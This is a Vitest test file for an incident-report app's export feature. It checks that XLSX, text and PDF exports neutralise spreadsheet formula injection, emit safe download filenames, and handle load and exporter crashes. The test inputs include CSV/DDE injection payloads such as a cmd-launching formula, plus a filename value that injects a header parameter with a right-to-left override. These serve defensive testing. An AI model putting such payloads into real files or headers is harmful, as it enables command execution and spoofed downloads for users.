import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeExporter } from '../../server/exports/exporter.ts';
import { isFollowUp } from '../../shared/documents/follow-ups.ts';
import { documentKindIds } from '../../shared/documents/kind-ids.ts';
import { unzipped } from '../documents/word/zip.ts';
import { paperRoom } from '../kit/paper-room.ts';
import { onServer } from '../kit/server.ts';

const server = await onServer();
afterAll(() => server.end());

let room: Awaited<ReturnType<typeof paperRoom>>;
beforeAll(async () => {
  room = await paperRoom(server, 'commonRansomware', { company: '=HYPERLINK("http://x")\r\n会社' });
});

/** What a spreadsheet would reckon with instead of showing it. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://example.com/?"&A1,"見る")',
  '+81-3-0000-0000',
  '-2',
  '@SUM(A1)',
  '\t=1+1',
  '＝1+1',
  '＋1',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  '"=1+1"\n=2',
  '_x003D_1+1',
];

describe('a text that begins like a formula', () => {
  test.each(formulas)(
    '%j is a text in Excel, and reads as it was written in plain text and in the sheet to copy from (S9)',
    async (said) => {
      expect((await room.save(said)).status).toBe(200);
      const book = await unzipped((await room.exported('xlsx')).bytes);
      const sheet = book.get('xl/worksheets/sheet1.xml') ?? '';
      expect(sheet).not.toMatch(/<f[ >]/);
      const types = [...sheet.matchAll(/<c [^>]*>/g)].map(([cell]) => /t="(\w+)"/.exec(cell)?.[1] ?? 'n');
      // Numbers are our own counts of characters; everything else is text.
      expect([...new Set(types)].every((type) => ['s', 'inlineStr', 'str', 'n'].includes(type))).toBe(true);
      expect(book.has('xl/externalLinks/externalLink1.xml')).toBe(false);
      expect((await room.exported('txt')).bytes.toString('utf8')).toContain(said.replaceAll('\n', '\r\n'));
      const { rows } = (await room.get('/export/copySheet')).json();
      expect(rows.find((one: { field: string }) => one.field === room.field).text).toBe(said);
    },
  );

  test('ended by a carriage return is a line, and still a text', async () => {
    const { body } = await room.save('\r=1+1');
    expect(body.mended).toMatchObject([{ field: room.field }]);
    const book = await unzipped((await room.exported('xlsx')).bytes);
    expect(book.get('xl/worksheets/sheet1.xml')).not.toMatch(/<f[ >]/);
  });
});

describe('the name of a file', { timeout: 60_000 }, () => {
  // A follow-up begins once something went out; its name is made like every other.
  test.each(documentKindIds.filter((kind) => !isFollowUp(kind)))(
    'of %s is safe in every program, and whole in those that read Japanese',
    async (kind) => {
      const { exported } = await paperRoom(server, kind, { company: '"; filename=x.exe\u202e' });
      const { status, headers } = await exported('txt');
      const said = String(headers['content-disposition']);
      expect([status, headers['x-content-type-options'], headers['cache-control']]).toEqual([
        200,
        'nosniff',
        'no-store',
      ]);
      const [, plain = '', encoded = ''] =
        /^attachment; filename="([\w.-]+)"; filename\*=UTF-8''([\w.%!~*'()-]+)$/.exec(said) ?? [];
      expect(plain).toMatch(/^INC-[\w-]+\.txt$/);
      expect(decodeURIComponent(encoded)).toMatch(/^INC-[^\p{Cc}\p{Cf}/\\:*?"<>|]+_v1\.txt$/u);
    },
  );
});

describe('papers asked for at once', { timeout: 120_000 }, () => {
  test('beyond what can wait are refused with words and a time, the others are made, and nothing is lost', async () => {
    const before = server.rows();
    const answers = await Promise.all(Array.from({ length: 48 }, () => room.get('/export/xlsx')));
    const busy = answers.filter(({ statusCode }) => statusCode === 503);
    expect(answers.filter(({ statusCode }) => statusCode === 200).length).toBeGreaterThan(31);
    expect(busy.length).toBeGreaterThan(0);
    expect(answers.every(({ statusCode }) => statusCode === 200 || statusCode === 503)).toBe(true);
    for (const answer of busy) {
      expect(answer.headers['retry-after']).toBe('5');
      expect(answer.headers['content-type']).toContain('application/problem+json');
      expect(answer.headers['content-disposition']).toBeUndefined();
      expect(answer.json()).toMatchObject({ code: 'too-busy', status: 503 });
      expect(answer.json().words.ja).toContain('書類は変わっていません');
    }
    expect((await room.exported('xlsx')).status).toBe(200);
    expect(server.rows()).toBe(before);
  });

  test('leave sixteen people free to read and write meanwhile', async () => {
    const papers = Promise.all(Array.from({ length: 8 }, () => room.get('/export/pdf')));
    let isMade = false;
    papers.then(() => {
      isMade = true;
    });
    const reads = await Promise.all(Array.from({ length: 16 }, () => room.get()));
    expect(reads.map(({ statusCode }) => statusCode)).toEqual(reads.map(() => 200));
    expect((await room.save('その間に書いた')).status).toBe(200);
    expect(isMade).toBe(false);
    expect((await papers).map(({ statusCode }) => statusCode)).toEqual(Array(8).fill(200));
  });
});

describe('a paper that cannot be made', { timeout: 60_000 }, () => {
  test('is told with what is safe and what to do, without a word of the inside, and the next one is made', async () => {
    const slow = await onServer({ exporter: makeExporter({ jobMs: 1 }) });
    const { get, exported } = await paperRoom(slow, 'ppcPreliminary');
    const before = slow.rows();
    const answer = await get('/export/pdf');
    expect(answer.statusCode).toBe(500);
    const body = answer.json();
    expect(body).toMatchObject({ code: 'export-failed', requestId: expect.any(String) });
    expect(body.words.ja).toContain('書類は変わっていません');
    expect(body.remedy.ja).toMatch(/もう一度/);
    expect(answer.payload).not.toMatch(/ExportFailed|SIGKILL|not done in|\.ts/);
    expect(answer.headers['content-disposition']).toBeUndefined();
    // What needs no process of its own leaves all the same.
    expect((await exported('txt')).status).toBe(200);
    expect(slow.rows()).toBe(before);
    await slow.end();
  });

  test.runIf(existsSync('/proc/self/task'))(
    'is told when the process that makes it dies, and the next one is made in a new process',
    async () => {
      const others = children();
      const started = () => children().filter((pid) => !others.includes(pid));
      const killed = await onServer();
      const { get, exported } = await paperRoom(killed, 'ppcPreliminary');
      const before = killed.rows();
      const lost = get('/export/pdf');
      await expect.poll(() => started().length).toBe(1);
      for (const pid of started()) process.kill(pid, 'SIGKILL');
      const answer = await lost;
      expect(answer.json()).toMatchObject({ code: 'export-failed', status: 500 });
      const next = await exported('pdf');
      expect([next.status, next.bytes.subarray(0, 4).toString()]).toEqual([200, '%PDF']);
      expect(killed.rows()).toBe(before);
      await killed.end();
    },
  );

  test('is told when the exporter is closed', async () => {
    const exporter = makeExporter();
    const closed = await onServer({ exporter });
    const { get } = await paperRoom(closed, 'ppcPreliminary');
    await exporter.close();
    expect((await get('/export/pdf')).json()).toMatchObject({ code: 'export-failed', status: 500 });
    await closed.end();
  });
});

/** The processes we started that still run. */
const children = () =>
  readdirSync('/proc/self/task').flatMap((thread) =>
    readFileSync(`/proc/self/task/${thread}/children`, 'utf8').trim().split(' ').filter(Boolean).map(Number),
  );
